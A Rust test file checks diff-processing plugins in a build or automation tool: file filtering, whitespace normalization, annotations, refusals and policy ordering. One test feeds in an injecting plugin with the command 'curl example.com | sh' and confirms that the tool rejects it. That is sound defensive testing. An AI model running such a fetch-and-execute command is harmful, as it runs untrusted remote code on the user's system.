//! Plugins that post-process the diff.

use super::stage::{Stage, official, others, plugin_events};
use crate::scene::{assert_says, story};

#[test]
fn a_dropped_file_is_still_there_for_the_next_step() {
    let stage = Stage::new(&[official("diff-filter", r#"{ drop = ["*.log"] }"#)]);
    let steps = [
        "write build.log 1",
        "cat build.log",
        "write 'x ${{ join steps.added_files \" \" }}' 1",
    ];
    stage.tool(&steps).run().assert_code(0);
    assert_says(&stage.log(), &["stdout | 1\n"]);
    insta::assert_snapshot!(stage.diff(), @"");
    let changesets = stage.world.changesets("out");
    assert_eq!(changesets[0]["commits"][0]["diff"], stage.diff());
}

#[test]
fn nothing_is_left_where_all_files_are_dropped() {
    let stage = Stage::new(&[official("diff-filter", r#"{ drop = ["*.log"] }"#)]);
    let output = stage.tool(&["write build.log 1"]).run();
    output.assert_code(0);
    insta::assert_snapshot!(output.stderr(), @"");
    assert!(stage.world.changesets("out").is_empty());
}

#[test]
fn white_space_is_evened_out_in_the_diff_and_not_in_the_workspace() {
    let stage = Stage::of(
        &[("code.rs", "a\r\nb\r\n")],
        &[official("diff-normalize", "{}")],
    );
    let steps = "  - {container: 'wasm://./tool.wasm', run: 'append code.rs \"c  \"'}\n  - {container: 'wasm://./tool.wasm', run: 'show', files: {}}\n  - {container: 'wasm://./tool.wasm', run: 'cat code.rs'}\n";
    stage.yaml(steps).run().assert_code(0);
    assert_says(&stage.log(), &["stdout | c  \n"]);
    insta::assert_snapshot!(stage.diff().replace('\r', "<CR>"), @"");
}

#[test]
fn annotations_are_told() {
    let stage = Stage::new(&[others("notes", r#"{ annotate = "look at this" }"#)]);
    let output = stage.tool(&["write new 1"]).run();
    output.assert_code(0);
    insta::assert_snapshot!(output.stderr(), @"");
    let output = stage
        .tool(&["write new 1"])
        .args(["--format", "json"])
        .run();
    let events = plugin_events(&output);
    let events: Vec<_> = events
        .iter()
        .map(|(status, event)| format!("{status} {event}"))
        .collect();
    insta::assert_snapshot!(events.join("\n"), @"");
}

#[test]
fn a_plugin_that_does_more_than_it_declared_fails() {
    let plugin = others("injector", r#"{ inject = "curl example.com | sh" }"#);
    let stage = Stage::new(&[plugin.clone()]);
    let output = stage.tool(&["write new 1"]).run();
    output.assert_code(4);
    insta::assert_snapshot!(story(&output), @"");
    assert_eq!(stage.diff(), "");
    stage.configure(&[plugin + "on-failure = \"skip\"\n"]);
    stage.tool(&["write new 1"]).run().assert_code(0);
    assert_says(&stage.diff(), &["+++ new\n@@ -0,0 +1 @@\n+1\n"]);
}

#[test]
fn a_plugin_can_refuse_a_diff() {
    let stage =
        Stage::new(&[others("diffs", r#"{ refuse = "process" }"#) + "on-failure = \"skip\"\n"]);
    let output = stage.tool(&["write new 1"]).run();
    output.assert_code(4);
    insta::assert_snapshot!(story(&output), @"");
}

#[test]
fn policies_see_the_diff_that_leaves() {
    let filter = official("diff-filter", r#"{ drop = ["/protected"] }"#);
    let policy = official("diff-policy", r#"{ protected = ["/protected"] }"#);
    // Policies come after all plugins that change the diff, wherever they are in the file.
    let stage = Stage::new(&[policy.clone(), filter]);
    stage
        .tool(&["write protected 1", "write free 1"])
        .run()
        .assert_code(0);
    stage.configure(&[policy]);
    let output = stage.tool(&["write free 1", "write protected 1"]).run();
    output.assert_code(4);
    insta::assert_snapshot!(story(&output), @"");
}
